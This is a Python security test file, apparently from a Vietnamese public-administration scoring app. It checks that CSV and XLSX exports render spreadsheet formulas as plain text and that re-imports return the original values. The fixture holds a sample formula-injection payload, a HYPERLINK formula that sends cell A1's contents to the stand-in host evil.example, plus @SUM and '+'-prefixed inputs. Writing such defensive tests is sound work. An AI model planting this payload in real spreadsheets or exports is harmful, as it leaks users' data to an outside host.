"""Formula injection: text typed into a field that a spreadsheet would run ("=HYPERLINK(…)",
"@SUM(…)", "+…", "-…") is exported as text — CSV and XLSX, dashboards and the files that are
imported back — and an exported file imported again gives back exactly what was typed."""

import io

import pytest
from openpyxl import load_workbook

from cchc.core.exports import neutralise, restore
from cchc.core.testing import BaseTestCase
from cchc.frameworks.importers import (
    export_framework_csv,
    export_framework_xlsx,
    read_framework_file,
)
from cchc.frameworks.models import Criterion
from cchc.frameworks.selectors import bands_of
from cchc.frameworks.tests.factories import make_framework
from cchc.orgunits.importers import export_units_csv
from cchc.orgunits.models import OrgUnit
from cchc.orgunits.services import org_unit_create

pytestmark = pytest.mark.security

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
FRAMEWORK = f"""code,parent_code,title,max_points,rule
1,,Chỉ đạo điều hành,3,sum
1.1,1,"{FORMULA.replace('"', '""')}",2,yes_no
1.2,1,@SUM(1+1),1,yes_no
"""


def test_neutralise_and_restore_are_inverse():
    for text in (FORMULA, "@x", "+1", "-5", "\t=1", "bình thường", "'kept as typed", ""):
        assert restore(neutralise(text)) == text
    assert neutralise(FORMULA).startswith("'=")


class RoundTripTests(BaseTestCase):
    def test_a_framework_exports_formulas_as_text_and_imports_them_back(self):
        framework = make_framework(self.cast.city, text=FRAMEWORK, name="Công thức")
        criteria = list(
            Criterion.objects.filter(framework=framework)
            .select_related("parent", "agency")
            .order_by("order")
        )
        text = export_framework_csv(criteria)
        assert "'=HYPERLINK" in text and "'@SUM" in text
        workbook = load_workbook(
            io.BytesIO(export_framework_xlsx(framework, criteria, bands_of(framework)))
        )
        cells = [cell for row in workbook.worksheets[-1].iter_rows() for cell in row]
        assert not any(cell.data_type == "f" for cell in cells)  # no formula anywhere
        content, _agencies = read_framework_file(data=text.encode(), file_name="lai.csv")
        titles = {row.code: row.title for row in content.criteria}
        assert titles["1.1"] == FORMULA and titles["1.2"] == "@SUM(1+1)"

    def test_unit_names_round_trip_through_the_units_file(self):
        org_unit_create(
            actor=None, code="F1", name="+84 Phường", kind="ward", parent=self.cast.city
        )
        units = list(OrgUnit.objects.select_related("parent").order_by("path"))
        text = export_units_csv(units)
        assert ",'+84 Phường," in text
        from cchc.core.imports import read_csv_rows

        rows = {
            row["code"]: row["name"] for _n, row in read_csv_rows(text, required=["code", "name"])
        }
        assert rows["F1"] == "+84 Phường"
